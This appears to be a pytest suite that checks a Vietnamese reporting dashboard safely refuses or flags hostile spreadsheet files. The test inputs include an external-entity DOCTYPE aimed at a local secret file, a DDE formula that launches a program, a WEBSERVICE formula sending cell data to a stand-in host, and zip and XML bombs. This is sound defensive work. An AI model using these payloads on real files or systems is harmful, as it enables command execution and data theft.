"""Hostile files: each gets a clear sentence or a finding, within bounds of memory; nothing runs."""

import io
import json
import random
import re
import struct
import subprocess
import sys
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import xlwt

from dashboard.catalogue.observations import NOT_SUBMITTED, Value
from dashboard.catalogue.reference import Reference, data_folder, load
from dashboard.workbook import grids, reading, writing, xls
from dashboard.workbook.asked import form_of
from dashboard.workbook.files import open_grids
from tests import foreign_files
from tests.test_files import NO_WORKBOOK, old_book, package, refusal, sheet
from tests.tools import MOST_SECONDS

ROOT = Path(__file__).parent.parent
FUND = "12. Quỹ Vì người nghèo"
COVER = writing.Cover(as_of_date=date(2025, 3, 28))


@pytest.fixture(scope="module")
def reference() -> Reference:
    return load(data_folder())


@pytest.fixture(scope="module")
def small(reference, tmp_path_factory) -> bytes:
    """Give the smallest workbook there is, the Front's, with a number."""
    path = tmp_path_factory.mktemp("hostile") / "mttq.xlsx"
    writing.write("mttq", path, reference=reference, cover=COVER, values=numbers(reference))
    return path.read_bytes()


def numbers(reference):
    form = form_of(reference, "mttq")
    return {
        key: Value(Decimal(1000 + at))
        for at, (key, cell) in enumerate(form.cells.items())
        if cell.kind == "input"
    }


def with_parts(content: bytes, change, method=zipfile.ZIP_DEFLATED) -> bytes:
    """Give a workbook with parts changed or added: `change` takes and gives parts by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as zipped:
        parts = change({name: zipped.read(name) for name in zipped.namelist()})
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as zipped:
        for name, part in parts.items():
            zipped.writestr(name, part)
    return stream.getvalue()


def findings_of(content, reference):
    return reading.read_content("mttq.xlsx", content, reference=reference).findings


# What the file is


@pytest.mark.parametrize("share", [step / 40 for step in range(40)])
def test_a_truncated_workbook_is_refused_wherever_it_is_cut(small, share):
    assert refusal(small[: int(len(small) * share)]).startswith(NO_WORKBOOK)


@pytest.mark.parametrize("share", [step / 20 for step in range(20)])
def test_a_truncated_xls_is_refused_or_whole(share):
    content = old_book()
    assert refusal(content[: int(len(content) * share)], "b.xls").startswith(NO_WORKBOOK)


@pytest.mark.parametrize("seed", range(40))
@pytest.mark.parametrize("start", [b"", grids.ZIP, grids.OLE, b"#sheet=x"])
def test_random_bytes_are_refused(start, seed):
    assert refusal(start + random.Random(seed).randbytes(3000)).startswith(NO_WORKBOOK)


def ole(*names: str) -> bytes:
    """Give an OLE file whose directory lists streams without content."""
    header = bytearray(512)
    header[:4] = grids.OLE
    header[30:32] = (9).to_bytes(2, "little")
    end, free = (0xFFFFFFFE).to_bytes(4, "little"), (0xFFFFFFFF).to_bytes(4, "little")
    header[48:52] = (1).to_bytes(4, "little")
    header[60:64] = header[68:72] = end
    header[76:80] = (0).to_bytes(4, "little")
    header[80:512] = free * 108
    table = b"\xfd\xff\xff\xff" + end * 2 + free * 125
    entries = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0")
        + (2 * len(name) + 2).to_bytes(2, "little")
        + b"\2"
        + bytes(49)
        + end
        + bytes(8)
        for name in names
    )
    return bytes(header) + table + entries.ljust(512, b"\0")


def test_a_workbook_with_a_password_says_so():
    assert refusal(ole("EncryptionInfo", "EncryptedPackage")).startswith("tệp đặt mật khẩu")
    assert refusal(ole("WordDocument")).startswith(NO_WORKBOOK)


def test_an_xls_with_a_password_says_so():
    content = bytearray(old_book())
    # The first record after the opening one of the workbook becomes FILEPASS.
    at = content.index(b"\x09\x08\x10\x00\x00\x06\x05\x00") + 20
    content[at : at + 2] = b"\x2f\x00"
    assert refusal(bytes(content), "b.xls").startswith("tệp đặt mật khẩu")


def test_an_encrypted_zip_says_so(small):
    content = bytearray(small)
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 8] |= 1
        at += 1
    assert refusal(bytes(content)).startswith("tệp đặt mật khẩu")


def test_a_part_that_does_not_fit_its_checksum_is_refused(small):
    content = bytearray(small)
    # In the list of parts the checksum stands 30 bytes before the name.
    content[small.rindex(b"xl/worksheets/sheet2.xml") - 30] ^= 1
    assert refusal(bytes(content)).startswith(NO_WORKBOOK)


@pytest.mark.parametrize(
    "part",
    ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "_rels/.rels"],
)
def test_a_document_type_is_refused(small, part):
    def declare(parts):
        head, _, rest = parts[part].partition(b"?>")
        entity = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'
        return parts | {part: head + b"?>" + entity + rest}

    assert refusal(with_parts(small, declare)).startswith("tệp có khai báo DOCTYPE")


def test_an_entity_is_not_looked_up(small, tmp_path):
    secret = tmp_path / "bí mật.txt"
    secret.write_text("bí mật", encoding="utf-8")

    def declare(parts):
        name = "xl/sharedStrings.xml"
        text = parts[name].decode().replace("<sst", f'<!DOCTYPE x SYSTEM "{secret}"><sst', 1)
        return parts | {name: text.encode()}

    assert refusal(with_parts(small, declare)).startswith("tệp có khai báo DOCTYPE")


# What would act by itself


@pytest.mark.parametrize(
    ("part", "words"),
    [
        ("xl/vbaProject.bin", "macro (vbaProject.bin)"),
        ("xl/macrosheets/sheet1.xml", "macro Excel 4.0"),
        ("xl/externalLinks/externalLink1.xml", "liên kết tới tệp khác"),
        ("xl/connections.xml", "kết nối dữ liệu bên ngoài"),
        ("xl/embeddings/oleObject1.bin", "đối tượng nhúng"),
        ("XL/ActiveX/activeX1.bin", "điều khiển ActiveX"),
    ],
)
def test_an_active_part_is_named_and_never_opened(small, reference, part, words):
    content = with_parts(small, lambda parts: parts | {part: b"\0not to be read"})
    (finding,) = findings_of(content, reference)
    assert (finding.rule, finding.severity, finding.found) == ("R06", "warning", words)
    assert "không được chạy" in finding.message


@pytest.mark.parametrize(
    ("formula", "words"),
    [
        ('WEBSERVICE("http://example.com/?"&amp;A1)', "công thức gọi ra ngoài"),
        ("rtd(&quot;x&quot;)", "công thức gọi ra ngoài"),
        ('HYPERLINK("http://example.com")', "công thức liên kết ra ngoài"),
        ("[1]Sheet1!$A$1", "công thức lấy số từ tệp khác"),
        ("'C:\\[Sổ khác.xlsx]Trang 1'!A1", "công thức lấy số từ tệp khác"),
        ("cmd|'/c calc'!A0", "công thức gọi chương trình khác (DDE)"),
    ],
)
def test_a_formula_that_reaches_outside_is_not_run_and_its_saved_value_is_read(formula, words):
    cell = f'<c r="C2"><f>{formula}</f><v>5</v></c>'
    (grid,) = open_grids("b.xlsx", package(sheet(f'<row r="2">{cell}</row>'))).values()
    assert grid.rows[1][2] == 5.0
    (note,) = grid.notes
    assert (note.cell, note.rule, note.found) == ("C2", "R06", words)


@pytest.mark.parametrize(
    "formula",
    ["SUM(A1:A3)", "'1. Hộ và tỷ lệ'!C3", 'IF(A1="a|b","[x]",HYPERLINK("#A1"))', "Bảng1[Cột]"],
)
def test_a_formula_within_the_workbook_is_nothing_to_mention(formula):
    text = formula.replace("&", "&amp;")
    xml = sheet(f'<row r="2"><c r="C2"><f>{text}</f><v>5</v></c></row>')
    (grid,) = open_grids("b.xlsx", package(xml)).values()
    assert grid.notes == ()


def test_many_such_formulas_are_one_finding_a_sheet():
    cells = "".join(f"<row><c><f>[1]A!{at}</f><v>1</v></c></row>" for at in range(300))
    (grid,) = open_grids("b.xlsx", package(sheet(cells))).values()
    (note,) = grid.notes
    assert note.cell == "A1"
    assert "300 ô, ô đầu tiên A1" in note.message


def test_the_forms_own_formulas_are_nothing_to_mention(small, reference):
    assert findings_of(small, reference) == ()


def test_two_cells_of_an_xls_at_one_place_are_refused():
    assert open_grids("b.xls", with_records(number_cell(3, 4, 150)))["a"].rows[3][4] == 150
    content = with_records(number_cell(3, 4, 150) + number_cell(3, 4, 149))
    assert refusal(content, "b.xls").startswith(NO_WORKBOOK)


@pytest.mark.parametrize(
    "bound", [{"SECONDS": 0.001}, {"WORKER": Path("/dev/null/none.py")}], ids=["time", "ended"]
)
def test_an_xls_that_its_process_does_not_finish_is_refused(bound, monkeypatch):
    for name, value in bound.items():
        monkeypatch.setattr(xls, name, value)
    assert refusal(old_book(), "b.xls").startswith("tệp .xls có quá nhiều ô hoặc bị hỏng")


def test_an_xls_is_opened_from_any_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "json.py").write_text("raise SystemExit(1)")
    assert list(open_grids("b.xls", old_book())) == ["Hộ và tỷ lệ", "Hai"]


def test_an_xls_with_macros_says_so():
    content = old_book()
    # The third entry of the directory is free: a storage of macros is put there.
    at = content.index("Workbook".encode("utf-16-le")) + 128
    assert content[at + 66] == 0
    entry = "_VBA_PROJECT_CUR".encode("utf-16-le").ljust(64, b"\0")
    entry += (34).to_bytes(2, "little") + b"\1" + bytes(61)
    grids = open_grids("b.xls", content[:at] + entry + content[at + 128 :])
    assert [note.found for grid in grids.values() for note in grid.notes] == [
        "macro (vbaProject.bin)"
    ]


# What stands in cells


@pytest.mark.parametrize(
    ("typed", "value"),
    [
        (1e308, NOT_SUBMITTED),
        (-1e308, NOT_SUBMITTED),
        (1e15, NOT_SUBMITTED),
        ("NaN", NOT_SUBMITTED),
        ("-0", Value(Decimal(0))),
        (datetime(2024, 3, 1), NOT_SUBMITTED),
        (True, NOT_SUBMITTED),
        ("<b>12</b>", NOT_SUBMITTED),
        ("=1+1", NOT_SUBMITTED),
        ("１２", NOT_SUBMITTED),
        ("12\u200b34", NOT_SUBMITTED),
    ],
)
def test_a_cell_that_is_no_number_for_certain_is_a_finding(small, reference, typed, value):
    book = openpyxl.load_workbook(io.BytesIO(small))
    page = book[FUND]
    cells = [cell for row in page.iter_rows() for cell in row]
    entry = next(cell for cell in cells if cell.value in range(1000, 2000))
    entry.value = typed
    if isinstance(typed, str):
        entry.data_type = "s"
    stream = io.BytesIO()
    book.save(stream)
    workbook = reading.read_content("mttq.xlsx", stream.getvalue(), reference=reference)
    cell = entry.coordinate
    read = workbook.observations.set_index(["sheet", "cell"]).loc[(FUND, cell)]
    assert Value(read["value"], read["value_state"]) == value
    errors = [each for each in workbook.findings if each.severity == "error"]
    assert [(each.rule, each.cell) for each in errors] == (
        [] if value.number is not None else [("R02", cell)]
    )
    assert all(each.found in each.message for each in errors)


# Memory and time: the worst files, each in a process of its own that may not grow beyond bounds


GROWTH = 600_000_000
# The highest memory of the process itself: ru_maxrss would start with that of the test runner.
WATCH = """
import json, resource, sys
from pathlib import Path
from dashboard.catalogue.reference import data_folder, load
from dashboard.workbook import reading
from dashboard.workbook.grids import UnreadableError


def memory(name):
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(int(line.split()[1]) * 1024 for line in lines if line.startswith(name))


reference = load(data_folder())
before = memory("VmHWM")
resource.setrlimit(resource.RLIMIT_AS, (memory("VmSize") + 1_000_000_000,) * 2)
try:
    findings = reading.read(Path(sys.argv[1]), reference=reference).findings
except UnreadableError as refused:
    findings = [refused.finding]
grown = memory("VmHWM") - before
print(json.dumps({"grown": grown, "messages": [each.message for each in findings]}))
"""


def watched(path: Path) -> list[str]:
    """Read a file in a process that may take 1 GB more; give the sentences."""
    done = subprocess.run(
        [sys.executable, "-c", WATCH, str(path)],
        capture_output=True,
        text=True,
        timeout=MOST_SECONDS,
        cwd=ROOT,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    said = json.loads(done.stdout)
    assert said["grown"] < GROWTH
    return said["messages"]


def large_file(_):
    return None


def bomb_of_zeros(_):
    return package(sheet(""), xl__sharedStrings=b"\0" * 300_000_000)


def bomb_in_many_parts(_):
    body = sheet("<row><c><v>1</v></c></row>" + " " * 15_900_000)
    return package(*[body] * 6)


def million_rows(_):
    rows = (f'<row r="{at}"><c r="A{at}"><v>{at}</v></c></row>' for at in range(1, 1_000_001))
    return package(sheet("".join(rows)))


def many_rows(_):
    rows = (f'<row r="{at}"><c r="A{at}"><v>{at}</v></c></row>' for at in range(1, 200_000))
    return package(sheet("".join(rows)))


def million_lines(_):
    return "\n".join(f"#sheet={at},1" for at in range(1_000_000)).encode()


def million_elements(_):
    return package(sheet("<row><c/></row>" * 1_060_000), stored=True)


def deep_elements(_):
    return package(sheet("<a>" * 990_000 + "</a>" * 990_000), stored=True)


def many_attributes(_):
    attributes = " ".join(f'a{at}=""' for at in range(1_200_000))
    return package(sheet(f"<row {attributes}/>"), stored=True)


def one_long_text(_):
    text = "x" * 15_000_000
    return package(sheet(f'<row><c t="inlineStr"><is><t>{text}</t></is></c></row>'), stored=True)


def one_text_in_many_cells(small):
    """Every number of the form becomes the same text of 14 million digits."""

    def change(parts):
        texts = parts["xl/sharedStrings.xml"].replace(
            b"</sst>", b"<si><t>" + b"9" * 14_000_000 + b"</t></si></sst>"
        )
        entry = r'<c r="([D-Z][0-9]+)" (s="[0-9]+")><v>[0-9]+</v>'
        text = rf'<c r="\1" \2 t="s"><v>{texts.count(b"<si>") - 1}</v>'
        page = re.sub(entry, text, parts["xl/worksheets/sheet2.xml"].decode())
        return parts | {"xl/sharedStrings.xml": texts, "xl/worksheets/sheet2.xml": page.encode()}

    return with_parts(small, change, zipfile.ZIP_STORED)


def many_entries(small):
    stream = io.BytesIO(small)
    with zipfile.ZipFile(stream, "a") as zipped:
        for number in range(60_000):
            zipped.writestr(f"m/{number}", b"")
    return stream.getvalue()


def many_codes(_):
    """A sheet of the form in which every cell has a code that names nothing."""
    head = "".join(f'<c t="inlineStr"><is><t>year={at}</t></is></c>' for at in range(490))
    cover = '<c r="A{}" t="inlineStr"><is><t>{}</t></is></c>'
    rows = "".join(
        f'<row r="{at}"><c t="inlineStr"><is><t>indicator=x</t></is></c>' + "</row>"
        for at in range(5, 2000)
    )
    xml = sheet(
        f'<row r="1">{cover.format(1, "#sheet=fund;unit=mttq;version=2")}</row>'
        f'<row r="2">{cover.format(2, "31/12/2024")}</row>'
        f'<row r="4">{cover.format(4, "#codes")}{head}</row>{rows}'
    )
    return package(xml)


def hungry_texts(_):
    """Texts that a careless pattern would go through again for every sign of theirs."""
    formula = f"<row><c><f>{'[' * 4_000_000}</f><v>1</v></c></row>"
    return package(sheet(formula + f"<row><c><v>{'9' * 8_000_000}</v></c></row>"), stored=True)


def hungry_lines(_):
    return b"#sheet=" * 2_500_000


def circle_of_sectors(_):
    content = bytearray(old_book())
    content[512 + 0 : 512 + 4] = (0).to_bytes(4, "little")
    return bytes(content)


def far_cell_in_an_xls(_):
    book = xlwt.Workbook()
    book.add_sheet("a").write(65_535, 255, 1)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def with_records(records: bytes) -> bytes:
    """Give an .xls whose only sheet holds further records."""
    book = xlwt.Workbook()
    book.add_sheet("a")
    stream = io.BytesIO()
    book.save(stream)
    whole = foreign_files.stream_of(stream.getvalue())
    end = whole.rindex(b"\x0a\x00\x00\x00")
    return foreign_files.ole_file(("Workbook", whole[:end] + records + whole[end:]))


def number_cell(row: int, column: int, value: float = 1) -> bytes:
    return struct.pack("<HHHHHd", 0x0203, 14, row, column, 0, value)


def many_cells_in_an_xls(_):
    cells = struct.pack("<HI", 0, 6) * 55
    return with_records(
        b"".join(
            struct.pack("<HHHH", 0x00BD, 6 + len(cells), row, 0) + cells + struct.pack("<H", 54)
            for row in range(19_000)
        )
    )


def one_long_text_in_many_cells_of_an_xls(_):
    label = struct.pack("<HHB", 8 + 1 + 8000, 8000, 0) + b"9" * 8000
    return with_records(
        b"".join(
            struct.pack("<HHHHH", 0x0204, 6 + len(label[2:]), row, 0, 0) + label[2:]
            for row in range(800)
        )
    )


def many_merges_in_an_xls(_):
    block = struct.pack("<HHH", 0x00E5, 2 + 8 * 1000, 1000) + struct.pack("<4H", 0, 9, 0, 9) * 1000
    return with_records(block * 800)


@pytest.mark.parametrize(
    ("made", "sentence"),
    [
        (many_cells_in_an_xls, "các trang trải trên hơn 1.000.000 ô"),
        (one_long_text_in_many_cells_of_an_xls, "thiếu trang “Bìa”"),
        (many_merges_in_an_xls, "quá nhiều ô gộp"),
        (large_file, "lớn hơn giới hạn 20 MB"),
        (bomb_of_zeros, "bom nén"),
        (bomb_in_many_parts, "bom nén"),
        (million_rows, "chứa quá nhiều dòng"),
        (many_rows, "trải đến dòng 20.001"),
        (million_lines, "trải đến dòng 20.001"),
        (million_elements, "phần tử, nhiều hơn một biểu có thể có"),
        (deep_elements, "thiếu trang “Bìa”"),
        (many_attributes, "thiếu trang “Bìa”"),
        (one_long_text, "thiếu trang “Bìa”"),
        (one_text_in_many_cells, "không đọc chắc chắn được thành số (đang ghi “9999"),
        (many_entries, "tệp nén chứa hơn 1.000 phần"),
        (many_codes, "phát hiện khác cùng loại (R03)"),
        (hungry_texts, "thiếu trang “Bìa”"),
        (hungry_lines, NO_WORKBOOK),
        (circle_of_sectors, NO_WORKBOOK),
        (far_cell_in_an_xls, "trải đến dòng 65.536, cột 256"),
    ],
)
def test_the_worst_files_stay_within_memory_and_end_with_a_sentence(
    small, tmp_path, made, sentence
):
    path = tmp_path / "xấu.xlsx"
    content = made(small)
    if content is None:
        with path.open("wb") as stream:
            stream.truncate(100_000_000)
    else:
        path.write_bytes(content)
    messages = watched(path)
    assert any(sentence in message for message in messages)
    assert max(map(len, messages)) < 1000
